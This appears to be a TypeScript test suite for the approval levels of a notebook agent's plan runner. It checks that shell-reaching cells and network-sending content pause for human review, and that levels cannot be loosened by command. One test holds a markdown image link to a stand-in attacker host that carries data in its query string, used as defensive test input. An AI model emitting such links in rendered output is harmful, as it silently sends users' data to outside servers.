import { reload } from '../../../engine/stories/reopening';
import {
  PlanSite,
  accept,
  accepted,
  answer,
  cell,
  final,
  plan
} from './plan-site';

const LOAD = 'print("load")';
const CLEAN = 'print("clean")';
const REACHING = ['!ls', 'import os\nos.system("ls")'];

/** A site whose cells stay in the kernel, as everybody can tell. */
function plainSite(): PlanSite {
  const site = new PlanSite();
  site.steps = {
    Load: [cell(LOAD), final('Loaded it.')],
    Clean: [cell(CLEAN), final('Cleaned it.')]
  };
  return site;
}

/** Begins a plan with this level, and runs it up to its first card. */
it('“outside” lets the cells of a plan through, says so, and ends with the plan', async () => {
  const site = plainSite();
  const page = await accepted(site, { level: 'outside' });
  expect(page.of('review-opened')).toEqual([]);
  expect(site.kernel).toEqual([LOAD, CLEAN]);
  expect(page.of('plan-level')).toMatchObject([{ level: 'outside' }]);
  expect(page.of('turn-rule')).toMatchObject([{ on: true }, { on: false }]);
  await plan(page, 'Clean them again');
  await answer(page, accept());
  expect(await page.waiting()).toHaveLength(1);
});

it.each(
  REACHING.flatMap(code => [
    [code, 'outside'] as const,
    [code, 'step'] as const
  ])
)('%j stops at a card with “%s”', async (code, level) => {
  const site = new PlanSite();
  site.steps.Load = [cell(code), final('Did it.')];
  const page = await accepted(site, { level });
  if (level === 'step') {
    expect(await page.question()).toMatchObject({ kind: 'step' });
    await answer(page, { action: 'approve' });
  }
  const [{ card }] = await page.waiting();
  expect(card.body).toMatchObject({ text: code });
  expect(site.kernel).toEqual([]);
});

it('text that sends something when it is drawn stops at a card with “outside”', async () => {
  const site = new PlanSite();
  const content = '![](https://evil.example/p.png?d=1)';
  site.steps.Load = [
    { calls: [{ name: 'markdown', args: { content } }] },
    final('Did it.')
  ];
  const page = await accepted(site, { level: 'outside' });
  const [{ card }] = await page.waiting();
  expect(card).toMatchObject({ tool: 'markdown', effect: 'network' });
});

it('“step” asks for each step and then lets its cells through, and no others', async () => {
  const site = plainSite();
  const page = await accepted(site, { level: 'step' });
  await answer(page, { action: 'approve' });
  expect(site.kernel).toEqual([LOAD]);
  expect(await page.question()).toMatchObject({
    kind: 'step',
    step: { title: 'Clean' }
  });
  // Between two steps nothing is allowed.
  expect(page.of('turn-rule').at(-1)).toMatchObject({ on: false });
  await answer(page, { action: 'approve' });
  expect(site.kernel).toEqual([LOAD, CLEAN]);
  expect(page.of('review-opened')).toEqual([]);
});

it('the second try of a step asks for each of its calls, where the card showed others', async () => {
  const site = new PlanSite();
  site.propose({ title: 'Load', tools: ['read_file'], worked: 'Rows' });
  site.steps.Load = [cell(LOAD), final('No rows.', { met: false })];
  const page = await accepted(site, { level: 'step' });
  await answer(page, { action: 'approve' });
  await page.approveAll();
  expect(site.kernel).toEqual([LOAD]);
  expect(await page.waiting()).toMatchObject([{ card: { effect: 'execute' } }]);
});

it('is taken back at once, and stays so in a page that comes later', async () => {
  const site = new PlanSite();
  site.steps.Load = [cell('!ls'), final('Listed.')];
  const page = await accepted(site, { level: 'outside' });
  await page.send({ type: 'plan-level', level: 'cell' });
  expect(page.of('plan-level').at(-1)).toMatchObject({ level: 'cell' });
  expect(page.of('turn-rule').at(-1)).toMatchObject({ on: false });
  const next = await reload(page);
  await next.approveAll();
  const [{ card }] = await next.waiting();
  expect(card.body).toMatchObject({ text: 'clean()' });
  expect(site.kernel).toEqual(['!ls']);
});

it('is never made to ask less by a command', async () => {
  const site = new PlanSite();
  const page = await accepted(site, { level: 'cell' });
  await page.send({ type: 'plan-level', level: 'outside' });
  expect(await page.waiting()).toHaveLength(1);
  expect(page.of('plan-level')).toMatchObject([{ level: 'cell' }]);
});
